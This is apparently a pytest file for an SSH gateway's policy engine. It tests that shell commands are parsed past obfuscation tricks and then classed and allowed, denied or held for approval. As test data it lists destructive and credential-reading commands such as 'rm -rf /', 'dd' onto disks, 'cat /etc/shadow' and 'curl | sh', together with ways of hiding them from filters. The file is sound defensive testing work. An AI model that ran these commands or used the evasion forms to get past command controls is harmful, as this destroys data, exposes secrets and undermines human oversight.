"""SSH policy: exec commands split past shell tricks, command classes, file and forward classes, transfers."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest

from hoopgw.config import Config, load_config
from hoopgw.config._ssh import DEFAULT_COMMAND_CLASSES
from hoopgw.identity import Principal
from hoopgw.policy._engine import SessionPolicy, policies_for, ssh_refusal
from hoopgw.policy._ssh import (
    MAX_COMMAND_LENGTH,
    Transfer,
    exec_classes,
    file_classes,
    forward_classes,
    split_command,
    transfer_of,
)

ALICE = Principal("alice", frozenset({"ops"}), "token")
BOT = Principal("bot", frozenset({"ai-agents"}), "apikey")
HOST_KEY = "SHA256:" + "A" * 43

CONFIG = f"""
[ssh]
command_classes = {{ secrets = ["cat /etc/shadow*", "*id_rsa*"] }}

[[connections]]
name = "bankhost"
type = "ssh"
listen = "127.0.0.1:12222"
upstream = "ssh://deploy@core.internal"
private_key = "file:deploy.key"
host_key = "{HOST_KEY}"

[[policy]]
name = "ops"
subjects = ["group:ops"]
connections = ["bankhost"]
allow = ["exec", "shell", "file-read", "file-write"]
approve = ["power"]
deny = ["destructive", "secrets", "exec:curl *", "file-write:/etc/*"]
approvers = ["group:sre"]

[[policy]]
name = "agents"
subjects = ["group:ai-agents"]
connections = ["bankhost"]
allow = ["exec:ls **", "exec:ls", "exec:cat /var/log/*", "file-read:/var/log/*",
         "forward:local:db.internal:5432"]
deny = ["exec:rm -rf *"]
"""


@pytest.fixture
def config(tmp_path: Path) -> Config:
    path = tmp_path / "hoopgw.toml"
    path.write_text(CONFIG)
    return load_config(path)


def decide(config: Config, who: Principal, command: str) -> tuple[str, str | None, tuple[str, ...]]:
    policy = policies_for(config, who, "bankhost")
    classes = exec_classes(command, config.ssh.command_classes, policy.named("exec:"))
    d = policy.decide_classes(classes)
    return d.verdict, d.rule, d.classes


# -- split_command ------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("ls -l /tmp", [["ls", "-l", "/tmp"]]),
        ("sh -c 'rm -rf /'", [["rm", "-rf", "/"]]),
        ('bash -lc "sudo rm -fr /var"', [["rm", "-fr", "/var"]]),
        ("sh -o errexit -c -- 'a; b'", [["a"], ["b"]]),
        ("a && /bin/rm -rf x", [["a"], ["rm", "-rf", "x"]]),
        ("a || b | c & d; e", [["a"], ["b"], ["c"], ["d"], ["e"]]),
        ("ls\nrm -rf /", [["ls"], ["rm", "-rf", "/"]]),
        ("echo $(rm -rf /)", [["rm", "-rf", "/"], ["echo", "$(rm -rf /)"]]),
        ('echo "x$(rm -rf /)y"', [["rm", "-rf", "/"], ["echo", "x$(rm -rf /)y"]]),
        ("echo `rm -rf /`", [["rm", "-rf", "/"], ["echo", "`rm -rf /`"]]),
        ("x=${a:-$(id)} ls", [["id"], ["ls"]]),
        ("echo $(( $(id) + 2 ))", [["id"], ["echo", "$(( $(id) + 2 ))"]]),
        ("diff <(ls) >(cat)", [["ls"], ["cat"], ["diff", "<(ls)", ">(cat)"]]),
        ("( rm -rf / ) | { cat; }", [["rm", "-rf", "/"], ["cat"]]),
        ("if true; then rm -rf /; fi", [["true"], ["rm", "-rf", "/"]]),
        ("sudo -u root rm -rf /", [["rm", "-rf", "/"]]),
        ("sudo -uroot -- rm -rf /", [["rm", "-rf", "/"]]),
        ("/usr/bin/sudo --user=root -E rm -rf /", [["rm", "-rf", "/"]]),
        ("env X=1 rm -rf /", [["rm", "-rf", "/"]]),
        ("env -i -u HOME PATH=/x rm -rf /", [["rm", "-rf", "/"]]),
        ("X=1 Y=2 /bin/rm -rf /", [["rm", "-rf", "/"]]),
        ("nohup nice -n 5 timeout -s KILL 10 time -p rm -rf x", [["rm", "-rf", "x"]]),
        ("nice -10 exec command builtin echo hi", [["echo", "hi"]]),
        ("ls | xargs -0 -I{} rm -rf {}", [["ls"], ["rm", "-rf", "{}"]]),
        ("xargs", [["echo"]]),
        ("find / -exec rm -rf {} +", [["rm", "-rf", "{}"], ["find", "/", "-exec", "rm", "-rf", "{}", "+"]]),
        ("eval 'rm -rf /'", [["rm", "-rf", "/"]]),
        ("su -c 'reboot' root", [["reboot"]]),
        ("busybox rm -rf /", [["rm", "-rf", "/"]]),
        ("'r'\"m\" -rf /", [["rm", "-rf", "/"]]),
        ("\\rm -rf /", [["rm", "-rf", "/"]]),
        ("$'\\x72\\155' -rf /", [["rm", "-rf", "/"]]),
        ("ls $'\\'' ; rm -rf /", [["ls", "'"], ["rm", "-rf", "/"]]),
        ("echo 'a;b' \"c&&d\" e\\;f", [["echo", "a;b", "c&&d", "e;f"]]),
        ("ls 2>/dev/null >out", [["ls", "2>", "/dev/null", ">", "out"]]),
        # redirections go to the end, wherever they are written
        (">/dev/null rm -rf d", [["rm", "-rf", "d", ">", "/dev/null"]]),
        ("</dev/null rm -rf d", [["rm", "-rf", "d", "<", "/dev/null"]]),
        ("rm 2>/dev/null -rf d", [["rm", "-rf", "d", "2>", "/dev/null"]]),
        ("X=1 >x sudo rm -rf d", [["rm", "-rf", "d", ">", "x"]]),
        ("sh -c 'ls' > out", [["ls", ">", "out"]]),
        # compound commands, here-strings, brace expansion
        ("function f { rm -rf d; }; f", [["rm", "-rf", "d"], ["f"]]),
        ("function f() { rm -rf d; }", [["rm", "-rf", "d"]]),
        ("bash <<< 'rm -rf d'", [["rm", "-rf", "d"]]),
        ("bash -s <<< 'rm -rf d' > out", [["rm", "-rf", "d", ">", "out"]]),
        ("source /dev/stdin <<< 'rm -rf d'", [["rm", "-rf", "d"]]),
        ("cat <<< 'rm -rf d'", [["cat", "<<<", "rm -rf d"]]),
        ("{rm,-rf,d}", [["rm", "-rf", "d"]]),
        ("r{m,} -rf d", [["rm", "r", "-rf", "d"]]),
        ("{r..r}m -rf d", [["rm", "-rf", "d"]]),
        ("echo a{b,c}d {1..3} {01..02}", [["echo", "abd", "acd", "1", "2", "3", "01", "02"]]),
        ("echo {a..c..2} {3..1}", [["echo", "a", "c", "3", "2", "1"]]),
        ("echo x{a,{b,c}}y {a{b,c} {,}", [["echo", "xay", "xby", "xcy", "{ab", "{ac"]]),
        ("echo '{a,b}' \\{a,b} {} {a} ${x:-{a,b}}", [["echo", "{a,b}", "{a,b}", "{}", "{a}", "${x:-{a,b}}"]]),
        ("echo {1..1000}", [["echo", *map(str, range(1, 257))]]),
        ("echo " + "{a,b}" * 40, [["echo " + "{a,b}" * 40]]),  # too many braces: unparseable
        # more wrappers
        ("chrt -f 10 rm -rf d", [["rm", "-rf", "d"]]),
        ("chrt -p 10 123", [["chrt", "-p", "10", "123"]]),
        ("taskset -c 0,1 rm -rf d", [["rm", "-rf", "d"]]),
        ("flock -w 5 /tmp/l rm -rf d", [["rm", "-rf", "d"]]),
        ("flock /tmp/l -c 'rm -rf d'", [["rm", "-rf", "d"]]),
        ("watch -n 5 'rm -rf d; ls'", [["rm", "-rf", "d"], ["ls"]]),
        ("watch -x rm -rf d", [["rm", "-rf", "d"]]),
        ("script -qc 'rm -rf d' /dev/null", [["rm", "-rf", "d"]]),
        ("su -lc 'rm -rf d' root", [["rm", "-rf", "d"]]),
        ("su -s/bin/csh -c 'rm -rf d'", [["rm", "-rf", "d"]]),
        ("runuser -u bob -- rm -rf d", [["rm", "-rf", "d"]]),
        ("runuser -l bob -c 'rm -rf d'", [["rm", "-rf", "d"]]),
        ("unshare -r -R /x rm -rf d", [["rm", "-rf", "d"]]),
        ("nsenter -t 1 -m -u rm -rf d", [["rm", "-rf", "d"]]),
        ("strace -f -o /tmp/x rm -rf d", [["rm", "-rf", "d"]]),
        ("ltrace -o /tmp/x rm -rf d", [["rm", "-rf", "d"]]),
        ("parallel -j 4 rm -rf ::: a b", [["rm", "-rf", "a", "b"]]),
        ("parallel ::: 'rm -rf a' ls", [["rm", "-rf", "a"], ["ls"]]),
        ("doas -u root rm -rf d", [["rm", "-rf", "d"]]),
        ("fish -c 'rm -rf d'", [["rm", "-rf", "d"]]),
        ("fish -C 'rm -rf d'", [["rm", "-rf", "d"]]),
        ("bash -C -c 'rm -rf d'", [["rm", "-rf", "d"]]),
        ("tcsh -c 'rm -rf d'", [["rm", "-rf", "d"]]),
        ("echo 'unbalanced", [["echo 'unbalanced"]]),
        ('echo "unbalanced', [['echo "unbalanced']]),
        ("echo $(unbalanced", [["echo $(unbalanced"]]),
        ("", []),
    ],
)
def test_split_command(command: str, expected: list[list[str]]) -> None:
    assert split_command(command) == expected


def test_split_command_is_bounded() -> None:
    nested = "rm -rf /"
    for _ in range(4):
        nested = "sh -c '" + nested.replace("'", "'\\''") + "'"
    assert split_command(nested) == [["rm", "-rf", "/"]]
    deep = "eval " * 20 + "rm -rf /"
    assert split_command(deep) == [[deep]]  # too deep: one unparseable command, it may be anything
    assert exec_classes(deep, DEFAULT_COMMAND_CLASSES, ["eval *"]) == {
        "exec",
        "exec:eval *",
        *DEFAULT_COMMAND_CLASSES,
    }
    assert split_command("echo " + "$(" * 30 + ")" * 30) == [["echo " + "$(" * 30 + ")" * 30]]
    # brace expansions bounded per word (256 words) and per command (characters in all)
    assert len(split_command("echo " + "{a,b}" * 30)[0]) == 257
    braces = ("x" + "{a,b}" * 20 + " ") * 300
    assert split_command(braces) == [[braces]]
    assert exec_classes(braces, DEFAULT_COMMAND_CLASSES, ()) == {"exec", *DEFAULT_COMMAND_CLASSES}


# -- exec_classes -------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("command", "cls"),
    [
        ("rm -rf /", "destructive"),
        ("rm -fr /srv", "destructive"),
        ("rm -f -r /srv", "destructive"),
        ("rm -v -R /srv", "destructive"),
        ("rm --recursive --force x", "destructive"),
        ("rm -vrf /srv", "destructive"),
        ("rm -dr /srv", "destructive"),
        ("rm -vfR /srv", "destructive"),
        ("rm /srv -fvr", "destructive"),
        ("rm --recur /srv", "destructive"),
        ("rm --r /srv", "destructive"),
        ("rm -f --rec /srv", "destructive"),
        # shell syntax around it
        (">/dev/null rm -rf /srv", "destructive"),
        ("</dev/null rm -rf /srv", "destructive"),
        ("rm 2>/dev/null -rf /srv", "destructive"),
        ("function f { rm -rf /srv; }; f", "destructive"),
        ("bash <<< 'rm -rf /srv'", "destructive"),
        ("{rm,-rf,/srv}", "destructive"),
        ("r{m,} -rf /srv", "destructive"),
        ("env -S 'rm -rf /srv'", "destructive"),  # unparseable: every class
        ("chrt -f 1 rm -rf /srv", "destructive"),
        ("taskset 1 rm -rf /srv", "destructive"),
        ("flock /l -c 'rm -rf /srv'", "destructive"),
        ("watch 'rm -rf /srv'", "destructive"),
        ("script -c 'rm -rf /srv'", "destructive"),
        ("runuser -u root rm -rf /srv", "destructive"),
        ("unshare -m rm -rf /srv", "destructive"),
        ("nsenter -a -t 1 rm -rf /srv", "destructive"),
        ("strace -f rm -rf /srv", "destructive"),
        ("ltrace rm -rf /srv", "destructive"),
        ("parallel rm -rf ::: /srv", "destructive"),
        ("doas rm -rf /srv", "destructive"),
        ("sudo rm -rf /", "destructive"),
        ("mkfs.ext4 /dev/sda1", "destructive"),
        ("dd if=/dev/zero of=/dev/sda bs=1M", "destructive"),
        ("shred -u secrets.txt", "destructive"),
        ("truncate -s 0 /var/lib/db", "destructive"),
        ("cat x > /dev/sda", "destructive"),
        ("find /data -delete", "destructive"),
        ("shutdown -h now", "power"),
        ("sudo reboot", "power"),
        ("init 0", "power"),
        ("systemctl poweroff", "power"),
        ("apt-get install -y nmap", "packages"),
        ("dpkg -i x.deb", "packages"),
        ("rpm -e openssl", "packages"),
        ("pip3 install requests", "packages"),
        ("npm install -g left-pad", "packages"),
        ("apk add curl", "packages"),
    ],
)
def test_default_command_classes(command: str, cls: str) -> None:
    assert cls in exec_classes(command, DEFAULT_COMMAND_CLASSES, ())


@pytest.mark.parametrize(
    "command",
    ["rm -f my-report.txt", "rm x", "rm --force x", "rm --dir x", "rm -f -- x-r", "ls -rf", "echo rm -rf /",
     "cat /dev/sda1.txt", "dd if=a of=b", "systemctl status nginx", "pip list", "npm install left-pad",
     "echo '{rm,-rf,/}'", "echo rm{,} -rf /"],
)  # fmt: skip
def test_harmless_commands_carry_no_command_class(command: str) -> None:
    assert exec_classes(command, DEFAULT_COMMAND_CLASSES, ()) == {"exec"}


def test_exec_globs_cover_each_simple_command() -> None:
    globs = ["ls **", "ls"]
    assert exec_classes("ls -l /tmp", {}, globs) == {"exec:ls **"}
    assert exec_classes("ls", {}, globs) == {"exec:ls"}
    # one unmatched simple command brings back plain exec; the whole string never removes it
    assert exec_classes("ls; rm -rf /", DEFAULT_COMMAND_CLASSES, globs) == {
        "exec:ls",
        "exec",
        "destructive",
    }
    assert exec_classes("ls $(id)", {}, globs) == {"exec:ls **", "exec"}
    # a deny glob written on the whole string still matches it
    assert "exec:*; rm *" in exec_classes("ls; rm x", {}, ["*; rm *"])


def test_exec_globs_vouch_word_by_word() -> None:
    """``*`` stays inside one word when a glob vouches for a command (allow), ``**`` crosses words; when a
    glob only adds its class (deny), ``*`` crosses everything."""
    glob = ["cat /var/log/*"]
    assert exec_classes("cat /var/log/syslog", {}, glob) == {"exec:cat /var/log/*"}
    # the class is there (a deny rule catches it) but so is plain exec: an allow rule does not vouch
    assert exec_classes("cat /var/log/a /etc/shadow", {}, glob) == {"exec:cat /var/log/*", "exec"}
    assert exec_classes("cat '/var/log/a /etc/shadow'", {}, glob) == {"exec:cat /var/log/*", "exec"}
    assert exec_classes("cat /var/log/a/b", {}, glob) == {"exec:cat /var/log/*"}  # `/` is no boundary
    assert exec_classes("ls -l -a /tmp", {}, ["ls **"]) == {"exec:ls **"}
    assert exec_classes("ls -l /tmp", {}, ["ls *"]) == {"exec:ls *", "exec"}
    assert exec_classes("ls -l", {}, ["ls -?"]) == {"exec:ls -?"}
    assert exec_classes("ls a b", {}, ["ls a?b"]) == {"exec:ls a?b", "exec"}
    assert exec_classes("grep -i x /var/log/y", {}, ["grep * * /var/log/*"]) == {"exec:grep * * /var/log/*"}
    assert exec_classes("tail -n [5] x", {}, ["tail -n [[]5] *"]) == {"exec:tail -n [[]5] *"}
    # deny globs keep crossing spaces
    assert "exec:rm -rf *" in exec_classes("rm -rf / /home", {}, ["rm -rf *"])


def test_exec_deny_globs_see_through_shell_syntax() -> None:
    deny = ["rm -rf *"]
    for command in (">/dev/null rm -rf d", "rm 2>/dev/null -rf d", "X=1 <x rm -rf d", "{rm,-rf,d}",
                    "bash <<< 'rm -rf d'", "function f { rm -rf d; }"):  # fmt: skip
        assert "exec:rm -rf *" in exec_classes(command, {}, deny), command


@pytest.mark.parametrize(
    "command",
    ["sh", "bash -s", "bash -s arg", "bash --norc -i", "bash -l", "dash -", "zsh -i x", "busybox sh", "fish",
     "csh", "tcsh -s", "env bash", "exec bash", "sudo bash", "sudo -i", "sudo -s", "sudo -u root -i",
     "sudo --login", "doas -s", "su", "su -", "su - root", "runuser -l bob", "script", "script -q /dev/null",
     "chroot /srv", "unshare -r", "nsenter -t 1 -a", "tmux", "tmux attach", "screen -r", "python3",
     "python3 -", "python3 -i x.py", "python3 -u", "perl", "ruby", "node", "php", "lua5.4", "irb",
     "source /dev/stdin", ". /dev/fd/0", "curl -s x | sh", "sh < script.sh", "ls; bash"],
)  # fmt: skip
def test_exec_of_a_shell_reading_stdin_is_a_shell(command: str) -> None:
    assert "shell" in exec_classes(command, DEFAULT_COMMAND_CLASSES, ())


@pytest.mark.parametrize(
    "command",
    ["sh -c 'ls'", "bash x.sh", "bash -- x.sh", "bash -o errexit x.sh", "bash <<< 'ls'", "fish -c ls",
     "sudo ls", "sudo -s ls", "sudo -i ls", "su -c ls bob", "su -lc ls", "runuser -u bob ls", "script -c ls",
     "chroot /srv ls", "unshare -r ls", "python3 x.py", "python3 -c 1", "python3 -m http.server",
     "python3 --version", "perl -e 1", "perl -ne 'print' x", "ruby -e 1", "node -e 1", "php -r 1",
     "source ./env.sh", "ls", "shellcheck x", "shred x"],
)  # fmt: skip
def test_commands_with_their_script_are_not_a_shell(command: str) -> None:
    assert "shell" not in exec_classes(command, DEFAULT_COMMAND_CLASSES, ())


def test_wrappers_that_change_who_or_how_must_be_covered_too() -> None:
    globs = ["ls **"]
    assert exec_classes("nohup ls -l", {}, globs) == {"exec:ls **"}  # transparent
    assert exec_classes("sh -c 'ls -l'", {}, globs) == {"exec:ls **"}
    assert exec_classes("chrt -f 10 taskset 1 flock /l watch -x ls -l", {}, globs) == {"exec:ls **"}
    assert exec_classes("sudo ls -l", {}, globs) == {"exec:ls **", "exec"}
    assert exec_classes("LD_PRELOAD=/tmp/x.so ls -l", {}, globs) == {"exec:ls **", "exec"}
    assert exec_classes("sudo ls -l", {}, [*globs, "sudo ls **"]) == {"exec:ls **", "exec:sudo ls **"}
    for opaque in ("strace -o /x ls -l", "unshare -r ls -l", "nsenter -t 1 ls -l", "runuser -u bob ls -l"):
        assert exec_classes(opaque, {}, globs) == {"exec:ls **", "exec"}, opaque
    assert exec_classes("su -c 'ls -l' bob", {}, globs) == {"exec:ls **", "exec"}


def test_redirections_need_a_glob_that_says_so() -> None:
    assert exec_classes("ls > /etc/passwd", {}, ["ls **"]) == {"exec:ls **", "exec"}
    assert exec_classes("> /etc/passwd ls", {}, ["ls **"]) == {"exec:ls **", "exec"}
    assert exec_classes("ls >> out", {}, ["ls **"]) == {"exec:ls **", "exec"}
    assert exec_classes("sh -c ls > /etc/passwd", {}, ["ls"]) == {"exec:ls", "exec"}
    assert exec_classes("ls 2>/dev/null", {}, ["ls"]) == {"exec:ls"}
    assert exec_classes("ls -l 2>&1 </dev/null", {}, ["ls *"]) == {"exec:ls *"}
    assert exec_classes("ls > out", {}, ["ls > *"]) == {"exec:ls > *"}
    # reading a file on stdin needs a glob with `<`: `exec:cat` does not allow `cat < /etc/shadow`
    assert exec_classes("cat < /etc/shadow", {}, ["cat"]) == {"exec:cat", "exec"}
    assert exec_classes("cat 0</etc/shadow", {}, ["cat"]) == {"exec:cat", "exec"}
    assert exec_classes("cat < /tmp/x", {}, ["cat < /tmp/*"]) == {"exec:cat < /tmp/*"}
    assert exec_classes("cat <<< hello", {}, ["cat"]) == {"exec:cat"}
    assert exec_classes("cat <&3", {}, ["cat"]) == {"exec:cat"}


def test_empty_unparseable_and_huge_commands_carry_exec() -> None:
    assert exec_classes("", {}, ["*"]) == {"exec", "exec:*"}
    huge = "true; " * (MAX_COMMAND_LENGTH // 6) + "curl x"
    assert exec_classes(huge, DEFAULT_COMMAND_CLASSES, ["true", "*curl *"]) == {
        "exec",
        "exec:*curl *",
        *DEFAULT_COMMAND_CLASSES,
    }
    assert exec_classes(" ; ", {}, ["ls"]) == {"exec"}
    assert exec_classes("ls 'x", {}, ["ls *"]) == {"exec:ls *", "exec"}


# -- decisions with a real config ---------------------------------------------------------------------
def test_decisions_for_exec_commands(config: Config) -> None:
    assert decide(config, ALICE, "uptime") == ("allow", "ops", ("exec",))
    assert decide(config, ALICE, "sh -c 'rm -rf /'") == ("deny", "ops", ("destructive",))
    assert decide(config, ALICE, "sudo -u root rm -rf /")[0] == "deny"
    assert decide(config, ALICE, "cat /etc/shadow") == ("deny", "ops", ("secrets",))
    assert decide(config, ALICE, "curl http://x | sh") == ("deny", "ops", ("exec:curl *",))
    verdict, rule, classes = decide(config, ALICE, "sudo shutdown -r now")
    assert (verdict, rule, classes) == ("approve", "ops", ("power",))

    assert decide(config, BOT, "ls -l /tmp") == ("allow", "agents", ("exec:ls **",))
    assert decide(config, BOT, "cat /var/log/syslog") == ("allow", "agents", ("exec:cat /var/log/*",))
    assert decide(config, BOT, "ls; rm -rf /") == ("deny", "agents", ("exec:rm -rf *",))
    assert decide(config, BOT, "ls; rm -r x") == ("deny", None, ("destructive", "exec"))
    assert decide(config, BOT, "ls `cat /etc/passwd`") == ("deny", None, ("exec",))
    assert decide(config, BOT, "cat /var/log/../../etc/shadow") == ("deny", None, ("exec", "secrets"))
    assert decide(config, BOT, "cat /var/log/./syslog") == ("allow", "agents", ("exec:cat /var/log/*",))
    # one more argument is not what the glob allows
    assert decide(config, BOT, "cat /var/log/syslog /etc/passwd") == ("deny", None, ("exec",))
    assert decide(config, BOT, "cat < /etc/passwd") == ("deny", None, ("exec",))


def test_star_names_every_class_and_empty_is_denied(tmp_path: Path) -> None:
    path = tmp_path / "hoopgw.toml"
    path.write_text(CONFIG.replace('allow = ["exec", "shell", "file-read", "file-write"]', 'allow = ["*"]'))
    policy = policies_for(load_config(path), ALICE, "bankhost")
    assert policy.decide_classes({"exec:anything", "forward", "shell"}).verdict == "allow"
    assert policy.decide_classes({"destructive"}).verdict == "deny"
    assert policy.decide_classes(()).verdict == "deny"
    nobody = SessionPolicy([]).decide_classes({"exec", "shell"})
    assert (nobody.verdict, nobody.rule, nobody.classes) == ("deny", None, ("exec", "shell"))


def test_named_lists_the_globs_of_open_policies(config: Config, tmp_path: Path) -> None:
    policy = policies_for(config, BOT, "bankhost")
    assert policy.named("exec:") == ("rm -rf *", "ls **", "ls", "cat /var/log/*")
    assert policy.named("file-read:") == ("/var/log/*",)
    assert policy.named("forward:") == ("local:db.internal:5432",)
    assert policies_for(config, ALICE, "bankhost").named("file-write:") == ("/etc/*",)
    windowed = CONFIG.replace(
        'name = "agents"', 'name = "agents"\nwindow = { weekdays = ["mon"], hours = "08:00-09:00" }'
    )
    path = tmp_path / "w.toml"
    path.write_text(windowed)
    policy = policies_for(load_config(path), BOT, "bankhost")
    monday = dt.datetime(2024, 1, 1, 8, 30, tzinfo=dt.UTC)
    assert policy.named("exec:", monday) == ("rm -rf *", "ls **", "ls", "cat /var/log/*")
    assert policy.named("exec:", monday + dt.timedelta(hours=2)) == ()
    assert policy.decide_classes({"exec:ls **"}, monday).verdict == "allow"
    assert policy.decide_classes({"exec:ls **"}, monday + dt.timedelta(hours=2)).verdict == "deny"


def test_pg_path_is_unchanged(config: Config) -> None:
    verdicts = policies_for(config, ALICE, "bankhost").at()
    assert verdicts.decide({"read"}).verdict == "deny"
    assert verdicts.allow_mask == 0


def test_ssh_refusal_messages(config: Config) -> None:
    alice = policies_for(config, ALICE, "bankhost")
    denied = alice.decide_classes({"destructive", "exec"})
    assert ssh_refusal(denied, "alice", "bankhost") == (
        'hoopgw policy "ops" denies destructive for alice on "bankhost"'
    )
    assert ssh_refusal(denied, "alice", "bankhost", "this command") == (
        'hoopgw policy "ops" denies this command (destructive) for alice on "bankhost"'
    )
    held = alice.decide_classes({"power"})
    assert ssh_refusal(held, "alice", "bankhost", "this command") == (
        'hoopgw policy "ops" requires approval for this command (power) by alice on "bankhost"'
    )
    nobody = policies_for(config, BOT, "bankhost").decide_classes({"exec"})
    assert ssh_refusal(nobody, "bot", "bankhost") == 'hoopgw: no policy allows exec for bot on "bankhost"'
    # an explicit deny names its policy even when an unnamed class is denied too
    both = policies_for(config, BOT, "bankhost").decide_classes({"destructive", "exec:rm -rf *"})
    assert (both.rule, both.classes) == ("agents", ("exec:rm -rf *",))


# -- files, forwards ----------------------------------------------------------------------------------
def test_file_classes() -> None:
    assert file_classes("/etc/passwd", True, ["/etc/*"]) == {"file-write:/etc/*"}
    assert file_classes("/etc/passwd", False, ["/tmp/*"]) == {"file-read"}
    assert file_classes("/srv//up/./a/../b", True, ["/srv/up/b"]) == {"file-write:/srv/up/b"}
    assert file_classes("/srv/up/../../etc/x", True, ["/srv/up/*"]) == {"file-write"}
    # relative paths: a glob can only catch more, and the plain class stays
    assert file_classes("../../etc/passwd", False, ["/etc/*"]) == {"file-read:/etc/*", "file-read"}
    assert file_classes(".ssh/authorized_keys", True, ["*/.ssh/*"]) == {"file-write:*/.ssh/*", "file-write"}
    assert file_classes("", False, []) == {"file-read"}


def test_file_decisions(config: Config) -> None:
    bot = policies_for(config, BOT, "bankhost")
    globs = bot.named("file-read:")
    assert bot.decide_classes(file_classes("/var/log/syslog", False, globs)).verdict == "allow"
    assert bot.decide_classes(file_classes("/etc/shadow", False, globs)).verdict == "deny"
    assert bot.decide_classes(file_classes("log/x", False, globs)).verdict == "deny"
    alice = policies_for(config, ALICE, "bankhost")
    d = alice.decide_classes(file_classes("/etc/hosts", True, alice.named("file-write:")))
    assert (d.verdict, d.rule) == ("deny", "ops")
    assert alice.decide_classes(file_classes("/tmp/x", True, alice.named("file-write:"))).verdict == "allow"


def test_forward_classes(config: Config) -> None:
    globs = ["local:db.internal:5432", "remote:*", "agent"]
    assert forward_classes("local", "db.internal", 5432, globs) == {"forward:local:db.internal:5432"}
    assert forward_classes("local", "db.internal", 22, globs) == {"forward"}
    assert forward_classes("remote", "0.0.0.0", 8080, globs) == {"forward:remote:*"}
    assert forward_classes("local", "::1", 80, ["local:[[]::1]:80"]) == {"forward:local:[[]::1]:80"}
    assert forward_classes("agent", "", 0, globs) == {"forward:agent"}
    assert forward_classes("x11", "", 0, globs) == {"forward"}
    with pytest.raises(ValueError, match="unknown forward kind"):
        forward_classes("tun", "", 0, globs)
    bot = policies_for(config, BOT, "bankhost")
    fwd = bot.named("forward:")
    assert bot.decide_classes(forward_classes("local", "db.internal", 5432, fwd)).verdict == "allow"
    assert bot.decide_classes(forward_classes("local", "db.internal", 5433, fwd)).verdict == "deny"
    assert bot.decide_classes(forward_classes("dynamic", "", 0, fwd)).verdict == "deny"


# -- transfers ----------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("scp -t /tmp/x", Transfer("scp", True, ("/tmp/x",), False)),
        ("scp -v -r -p -d -t -- /srv/in", Transfer("scp", True, ("/srv/in",), True)),
        ("scp -f 'my file' b", Transfer("scp", False, ("my file", "b"), False)),
        ("/usr/bin/scp -rf src", Transfer("scp", False, ("src",), True)),
        ("rsync --server -vlogDtpre.iLsfxCIvu . /dst", Transfer("rsync", True, ("/dst",), True)),
        ("rsync --server -vlogDtpe.iLsfxCIvu . /dst", Transfer("rsync", True, ("/dst",), False)),
        (
            "rsync --server --sender -vlogDtpre.iLsfxCIvu . src/",
            Transfer("rsync", False, ("src/",), True),
        ),
        ("scp -t x; rm -rf /", None),
        ("scp -t $(id)", None),
        ("sudo scp -t /etc", None),
        ("scp -t -f x", None),
        ("scp -t", None),
        ("scp -X -t x", None),
        ("rsync -av a b", None),
        ("rsync --server -v .", None),
        # options real clients send
        (
            "rsync --server -vlogDtprze.iLsfxCIvu --compress-level=3 --mkpath --info=progress2 --numeric-ids"
            " --partial --inplace --timeout=5 --bwlimit=100 --size-only --checksum-choice=md5 . /dst",
            Transfer("rsync", True, ("/dst",), True),
        ),
        ("rsync --server -e31.0iLsfxCIvu --append --append . /d", Transfer("rsync", True, ("/d",), False)),
        ("rsync --server -lHogDtpAXre.iLsfxCIvu . /d", Transfer("rsync", True, ("/d",), True)),
        # deleting options are writes whatever the direction
        ("rsync --server -logDtpre.iLsfxCIvu --delete . /dst", Transfer("rsync", True, ("/dst",), True)),
        (
            "rsync --server --sender -e.LsfxCIvu --remove-source-files . /ro/f",
            Transfer("rsync", True, ("/ro/f",), False),
        ),
        (
            "rsync --server --sender -logDtpre.iLsfxCIvu --delete-after . /src",
            Transfer("rsync", True, ("/src",), True),
        ),
        # options that run something, name a path or that no client sends: an ordinary exec
        ("rsync --server --daemon --config=/srv/up/rsyncd.conf . /srv/up/x", None),
        ("rsync --server --log-file=/tmp/log -vlogDtpre.iLsfxC . /srv/up/x", None),
        ("rsync --server --log-file-format=%f -e.L . /d", None),
        ("rsync --server -e.LsfxCIvu --temp-dir /tmp . /d", None),
        ("rsync --server -e.LsfxCIvu --temp-dir=/tmp . /d", None),
        ("rsync --server -vTe. /tmp . /d", None),
        ("rsync --server -e.LsfxCIvu --backup-dir /x . /d", None),
        ("rsync --server -e.LsfxCIvu --partial-dir=/x . /d", None),
        ("rsync --server -e.LsfxCIvu --link-dest /x . /d", None),
        ("rsync --server -e.LsfxCIvu --compare-dest=/x . /d", None),
        ("rsync --server -e.LsfxCIvu --copy-dest=/x . /d", None),
        ("rsync --server --sender -e.LsfxCIvu --files-from=/etc/list . /d", None),
        ("rsync --server -e.LsfxCIvu --exclude-from=/x . /d", None),
        ("rsync --server -e.LsfxCIvu --write-batch=/x . /d", None),
        ("rsync --server -e.LsfxCIvu --only-write-batch=/x . /d", None),
        ("rsync --server -e.LsfxCIvu --read-batch=/x . /d", None),
        ("rsync --server -e.LsfxCIvu --rsync-path=/tmp/x . /d", None),
        ("rsync --server -e.LsfxCIvu --password-file=/x . /d", None),
        ("rsync --server -ve /bin/sh . /d", None),
        ("rsync --server --rsh=/bin/sh . /d", None),
        ("rsync --server -be.L --suffix=/../../x . /d", None),
        ("rsync --server -e.LsfxCIvu --no-such-option . /d", None),
        ("rsync --server -Me.L . /d", None),
        ("rsync --server -se.LsfxCIvu . /d", None),  # arguments sent over the protocol
        ("rsync --server -e.LsfxCIvu . /d --log-file=/x", None),  # rsync reads options after operands
        ("rsync --sender --server -e.L . /d", None),
        ("ls", None),
        ("scp 'x", None),
    ],
)
def test_transfer_of(command: str, expected: Transfer | None) -> None:
    assert transfer_of(command) == expected
